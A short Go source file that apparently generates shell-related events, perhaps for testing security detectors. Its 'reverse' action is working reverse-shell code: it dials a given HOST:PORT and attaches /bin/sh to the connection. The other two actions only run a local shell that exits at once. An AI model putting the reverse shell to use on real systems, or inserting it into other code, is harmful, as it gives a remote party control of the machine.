// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"

	"golang.org/x/sys/unix"
)

// shells are deeds that start a shell.
func shells() map[string]deed {
	return map[string]deed{
		// reverse HOST:PORT gives who listens there a shell.
		"reverse": func(args []string) error {
			if err := want(args, "HOST:PORT"); err != nil {
				return err
			}
			conn, err := net.Dial("tcp", args[0])
			if err != nil {
				return err
			}
			file, err := conn.(*net.TCPConn).File()
			if err != nil {
				return err
			}
			return shellOn(file)
		},
		"pipe-shell": func([]string) error {
			cmd := exec.Command("/bin/sh")
			cmd.Stdin = strings.NewReader("exit\n")
			out, err := cmd.CombinedOutput()
			if err != nil {
				return fmt.Errorf("%w: %s", err, out)
			}
			return nil
		},
		"unixsocket-shell": func([]string) error {
			pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return fmt.Errorf("socketpair: %w", err)
			}
			if _, err := unix.Write(pair[1], []byte("exit\n")); err != nil {
				return err
			}
			return shellOn(os.NewFile(uintptr(pair[0]), "socket"))
		},
	}
}

// shellOn runs a shell whose standard files are all one.
func shellOn(file *os.File) error {
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = file, file, file
	return cmd.Run()
}
